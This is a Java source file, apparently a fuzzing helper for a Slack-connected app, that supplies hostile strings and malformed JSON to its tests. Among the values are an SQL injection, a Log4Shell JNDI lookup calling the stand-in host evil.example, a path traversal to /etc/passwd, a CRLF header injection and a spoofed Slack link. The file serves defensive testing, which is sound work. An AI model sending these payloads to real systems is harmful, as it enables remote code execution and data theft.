package io.confiture.wizard.hostile;

import java.util.List;
import java.util.Random;
import java.util.function.Supplier;

/** Values that break what has not been thought of. */
final class Oddity {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "a\0b",
            "\ud800",
            "x\udc00y",
            "\ud83c",
            "\ufeff\u200b\u200d",
            "\u202edcba",
            "\r\nSet-Cookie: a=b",
            "<!channel> <@U0JANE> <http://evil.example|bank>",
            "```*_~`",
            "'; DROP TABLE plan; --",
            "${jndi:ldap://evil.example/x}",
            "{0} {} %s %n %",
            "../../../../etc/passwd",
            "-1",
            "0",
            "2147483648",
            "9223372036854775807",
            "999999999999999999",
            "99999999999999999999999999999999",
            "1e400",
            "NaN",
            "null",
            "true",
            "1:" + "0".repeat(64) + ":1",
            "1:" + "0".repeat(64) + ":999999999999999999",
            "#1 PENDING",
            "#1 REVIEW:99",
            "#1 review:-1",
            "production",
            "U0JOHN U0JANE",
            "é".repeat(300),
            "👩‍🚒".repeat(700),
            "&<>".repeat(2_000),
            "x".repeat(100_000));

    private static final List<Supplier<String>> JSON = List.of(
            () -> "null",
            () -> "true",
            () -> "0",
            () -> "-1",
            () -> "1.5",
            () -> "1e308",
            () -> "1e999999999",
            () -> "123456789012345678901234567890",
            () -> "\"\"",
            () -> "[]",
            () -> "{}",
            () -> "[null]",
            () -> "[[[]]]",
            () -> "{\"\":null}",
            () -> "{\"id\":{}}",
            () -> "[".repeat(3_000) + "]".repeat(3_000),
            () -> "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000));

    private Oddity() {}

    static String text(Random lot) {
        return TEXTS.get(lot.nextInt(TEXTS.size()));
    }

    /** Any JSON value, as it is written. */
    static String json(Random lot) {
        return lot.nextInt(3) == 0 ? JSON.get(lot.nextInt(JSON.size())).get() : quoted(text(lot));
    }

    /** As Slack writes it, but for halves of characters, which Slack would not write. */
    static String quoted(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        text.chars().forEach(unit -> {
            if (unit == '"' || unit == '\\') {
                quoted.append('\\').append((char) unit);
            } else if (unit < ' ' || unit > '~') {
                quoted.append("\\u%04x".formatted(unit));
            } else {
                quoted.append((char) unit);
            }
        });
        return quoted.append('"').toString();
    }
}
